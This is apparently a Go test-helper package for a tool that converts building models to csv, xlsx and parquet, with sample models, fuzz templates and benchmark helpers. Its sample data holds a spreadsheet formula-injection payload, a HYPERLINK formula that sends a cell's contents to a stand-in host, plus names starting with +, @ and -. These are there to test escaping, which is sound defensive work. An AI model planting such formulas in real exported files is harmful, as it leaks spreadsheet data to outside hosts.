// Package tablestest holds what the tests of the tables formats (csv, xlsx,
// parquet) share: small models with awkward text, expected row counts, a fuzz
// template, a generated model for benchmarks, and a bridge to the independent
// readers under test/readers.
package tablestest

import (
	"context"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/arxos/arxport/converters/tables"
	"github.com/arxos/arxport/gen"
	"github.com/arxos/arxport/model"
)

// Formula is a name that a spreadsheet would run if it were written raw.
const Formula = `=HYPERLINK("http://x.example/?q="&A1,"click")`

// Unicode is a name outside ASCII that must survive every format.
const Unicode = "会议室 Café Ωmega"

// Sample is a small valid model with everything the tables hold: a room with a
// hole, rooms named like a formula and in CJK, every geometry kind, equipment
// with manufacturer and model, properties of the three kinds, a connection.
const Sample = `{
  "schema": "arxos.building/v1",
  "id": "B-1",
  "name": "+Tech, \"Tower\"",
  "address": "123 Innovation Drive\nNew York",
  "units": "m",
  "georef": {"lat": 40.7128, "lon": -74.0060, "elevation": 10.0, "rotation": 29.0},
  "properties": {"year_built": 2018, "occupancy": 1200.5, "listed": false, "owner": "@ACME"},
  "floors": [
    {"id": "L1", "name": "Ground Floor", "level": 0, "elevation": 0.0, "height": 4.0,
     "rooms": [
       {"id": "101", "name": "Main Lobby", "type": "lobby",
        "boundary": [[0,0],[10,0],[10,10],[0,10]], "holes": [[[4,4],[6,4],[6,6],[4,6]]], "height": 3.5,
        "properties": {"finish": "stone", "seats": 12, "open": true}},
       {"id": "102", "name": "=HYPERLINK(\"http://x.example/?q=\"&A1,\"click\")", "type": "office",
        "boundary": [[10,0],[20,0],[20,10],[10,10]]},
       {"id": "103", "name": "会议室 Café Ωmega",
        "boundary": [[0,10],[20,10],[20,15],[0,15]], "properties": {"note": "-2+3"}}
     ],
     "elements": [
       {"id": "W-1", "type": "wall", "name": "North wall", "material": "concrete",
        "geometry": {"kind": "line", "start": [0,10], "end": [20,10], "thickness": 0.3, "height": 4.0}},
       {"id": "D-1", "type": "door", "host": "W-1", "name": "@door",
        "geometry": {"kind": "opening", "offset": 5.0, "width": 1.0, "height": 2.1}},
       {"id": "S-1", "type": "slab",
        "geometry": {"kind": "extrusion", "profile": [[0,0],[20,0],[20,10],[0,10]], "base": -0.3, "height": 0.3}},
       {"id": "HVAC_01", "type": "equipment", "system": "hvac", "room": "101", "name": "Thermostat",
        "status": "operational",
        "geometry": {"kind": "box", "position": [3,4,1.5], "size": [0.1,0.1,0.1], "rotation": 0},
        "properties": {"manufacturer": "Google", "model": "Nest Pro", "serial": "0012", "watts": -3.5}},
       {"id": "PANEL_1", "type": "equipment", "system": "electrical", "status": "unknown", "name": "会议室 Café Ωmega",
        "geometry": {"kind": "box", "position": [1,1,0], "size": [0.5,0.2,1.2]}}
     ]},
    {"id": "L2", "name": "First", "level": 1, "elevation": 4.0, "height": 3.0,
     "elements": [
       {"id": "M-1", "type": "generic", "name": "\tTab",
        "geometry": {"kind": "mesh", "vertices": [[0,0,0],[1,0,0],[0,1,0],[0,0,1]],
                     "triangles": [[0,2,1],[0,1,3],[0,3,2],[1,2,3]]}},
       {"id": "C-1", "type": "column", "material": "steel",
        "geometry": {"kind": "extrusion", "profile": [[1000000,5000000],[1000000.3,5000000],[1000000.3,5000000.3],[1000000,5000000.3]], "height": 3.0}}
     ]}
  ],
  "connections": [{"from": "PANEL_1", "to": "HVAC_01", "type": "power", "spec": "120V/1PH/20A"},
                  {"from": "PANEL_1", "to": "M-1", "type": "logical"}]
}`

// Open reads a model from JSON or NDJSON text, failing the test if it is invalid.
func Open(t testing.TB, text string) *model.Model {
	t.Helper()
	m, err := model.Open(context.Background(), strings.NewReader(text), nil)
	if err != nil {
		t.Fatalf("model: %v", err)
	}
	t.Cleanup(func() { m.Close() })
	return m
}

// Counts returns the rows each table must have, from the model's statistics
// (not from the converter, so a converter that drops rows is caught).
func Counts(m *model.Model) map[string]int64 {
	s := m.Stats
	return map[string]int64{
		"floors":      int64(s.Floors),
		"rooms":       int64(s.Rooms),
		"elements":    int64(s.Elements),
		"equipment":   int64(s.ByType["equipment"]),
		"properties":  int64(s.Properties),
		"connections": int64(s.Connections),
	}
}

// FuzzModel is a model template whose text and numbers the fuzzer chooses; it
// may be invalid (an empty name, a number out of range), in which case the
// caller skips it.
func FuzzModel(name, key, text string, num float64, flag bool) string {
	props := map[string]any{key: text, "n": num, "b": flag}
	doc := map[string]any{
		"schema":     "arxos.building/v1",
		"id":         "B",
		"name":       name,
		"properties": props,
		"floors": []any{map[string]any{
			"id": "F", "name": name, "level": 0, "elevation": num, "height": 3,
			"rooms": []any{map[string]any{
				"id": "R", "name": name, "type": text,
				"boundary":   [][2]float64{{0, 0}, {num, 0}, {num, 5}, {0, 5}},
				"properties": props,
			}},
			"elements": []any{
				map[string]any{"id": "W", "type": "wall", "name": name, "material": text,
					"geometry": map[string]any{"kind": "line", "start": []float64{0, 0}, "end": []float64{num, 1}, "thickness": 0.2, "height": 3}},
				map[string]any{"id": "E", "type": "equipment", "name": text, "room": "R", "system": "hvac", "status": "failed",
					"geometry":   map[string]any{"kind": "box", "position": []float64{1, 1, 0}, "size": []float64{0.5, 0.5, num}},
					"properties": map[string]any{"manufacturer": name, "model": num, key: flag}},
			},
		}},
		"connections": []any{map[string]any{"from": "W", "to": "E", "type": "logical", "spec": text}},
	}
	b, err := json.Marshal(doc)
	if err != nil {
		return ""
	}
	return string(b)
}

// OpenFuzz opens a FuzzModel, or returns nil when the model rejects it.
func OpenFuzz(name, key, text string, num float64, flag bool) *model.Model {
	doc := FuzzModel(name, key, text, num, flag)
	if doc == "" {
		return nil
	}
	m, err := model.Open(context.Background(), strings.NewReader(doc), nil)
	if err != nil {
		return nil
	}
	return m
}

// Generated writes a generated building of about n elements as NDJSON into a
// temporary file and opens it, so that rooms and elements stream from spool
// files as they do in production.
func Generated(tb testing.TB, n int) *model.Model { return generated(tb, n, true) }

// GeneratedDoc is Generated as one JSON document, which the model holds in
// memory: the conversion then runs without the spool's decoding.
func GeneratedDoc(tb testing.TB, n int) *model.Model { return generated(tb, n, false) }

func generated(tb testing.TB, n int, ndjson bool) *model.Model {
	tb.Helper()
	path := filepath.Join(tb.TempDir(), "model.json")
	f, err := os.Create(path)
	if err != nil {
		tb.Fatal(err)
	}
	if _, err := gen.Write(f, gen.Options{Elements: n, Seed: 1, NDJSON: ndjson}); err != nil {
		tb.Fatal(err)
	}
	if err := f.Close(); err != nil {
		tb.Fatal(err)
	}
	m, err := model.OpenFile(context.Background(), path, &model.Options{TempDir: tb.TempDir()})
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { m.Close() })
	return m
}

// Models are the inputs benchmarks run on: a generated building of n elements
// as NDJSON (streamed from spool files) and as a JSON document (in memory).
func Models(tb testing.TB, n int) map[string]*model.Model {
	return map[string]*model.Model{"ndjson": Generated(tb, n), "json": GeneratedDoc(tb, n)}
}

// Expectation is the EXPECT.json the independent readers take: rows per table,
// the type of every column, and room names that must come back intact.
func Expectation(m *model.Model, roomNames ...string) []byte {
	if roomNames == nil {
		roomNames = []string{}
	}
	types := map[string]map[string]string{}
	for _, t := range tables.All {
		cols := map[string]string{}
		for _, c := range t.Columns {
			cols[c.Name] = c.Kind.String()
		}
		types[t.Name] = cols
	}
	b, _ := json.Marshal(map[string]any{
		"tables":           Counts(m),
		"types":            types,
		"room_names":       roomNames,
		"room_name_column": "name",
	})
	return b
}

// Readers returns the directory of the independent readers when the
// environment asks for them (ARXPORT_READERS=1) and they are installed;
// otherwise it skips the test.
func Readers(t *testing.T) string {
	t.Helper()
	if os.Getenv("ARXPORT_READERS") == "" {
		t.Skip("set ARXPORT_READERS=1 to run the independent readers")
	}
	_, file, _, _ := runtime.Caller(0)
	dir := filepath.Join(filepath.Dir(file), "..", "..", "..", "test", "readers")
	if _, err := os.Stat(filepath.Join(dir, "node_modules")); err != nil {
		t.Skipf("readers not installed in %s", dir)
	}
	return dir
}

// RunReader runs one reader script (node for .mjs, /usr/bin/python3 for .py,
// bash for .sh) and fails the test with its output unless it succeeds.
func RunReader(t *testing.T, dir, script string, args ...string) {
	t.Helper()
	var cmd *exec.Cmd
	path := filepath.Join(dir, script)
	switch filepath.Ext(script) {
	case ".mjs":
		cmd = exec.Command("node", append([]string{path}, args...)...)
	case ".py":
		cmd = exec.Command("/usr/bin/python3", append([]string{path}, args...)...)
	default:
		cmd = exec.Command("bash", append([]string{path}, args...)...)
	}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Errorf("%s: %v\n%s", script, err, out)
		return
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	t.Logf("%s", lines[len(lines)-1])
}

// Discard is an Output that throws files away, counting their bytes: for
// benchmarks, where keeping the output would measure memory, not the writer.
type Discard struct {
	Bytes atomic.Int64
}

// Create implements formats.Output.
func (d *Discard) Create(name, contentType string) (io.WriteCloser, error) {
	return discardFile{d}, nil
}

type discardFile struct{ d *Discard }

func (f discardFile) Write(p []byte) (int, error) { f.d.Bytes.Add(int64(len(p))); return len(p), nil }
func (discardFile) Close() error                  { return nil }

// PeakHeap runs fn and returns how far the heap rose above where it was when
// fn started, sampled every few milliseconds. The collector runs often
// meanwhile (GOGC=10), so the figure is close to what fn keeps live.
func PeakHeap(fn func()) uint64 {
	defer debug.SetGCPercent(debug.SetGCPercent(10))
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	base := ms.HeapAlloc
	var peak atomic.Uint64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		t := time.NewTicker(2 * time.Millisecond)
		defer t.Stop()
		for {
			select {
			case <-stop:
				return
			case <-t.C:
				var ms runtime.MemStats
				runtime.ReadMemStats(&ms)
				if ms.HeapAlloc > base && ms.HeapAlloc-base > peak.Load() {
					peak.Store(ms.HeapAlloc - base)
				}
			}
		}
	}()
	fn()
	close(stop)
	wg.Wait()
	return peak.Load()
}

// Rate measures a benchmark loop: items per second of wall time, and per
// second of CPU time used by the process (user and system), which stays
// meaningful on a machine that other work keeps busy.
type Rate struct {
	wall time.Time
	cpu  time.Duration
}

// StartRate starts measuring.
func StartRate() Rate { return Rate{wall: time.Now(), cpu: cpuTime()} }

// Report adds "<unit>/s" and "<unit>/cpu-s" metrics for n items in all.
func (r Rate) Report(b *testing.B, n float64, unit string) {
	b.ReportMetric(n/time.Since(r.wall).Seconds(), unit+"/s")
	if cpu := cpuTime() - r.cpu; cpu > 0 {
		b.ReportMetric(n/cpu.Seconds(), unit+"/cpu-s")
	}
}

func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
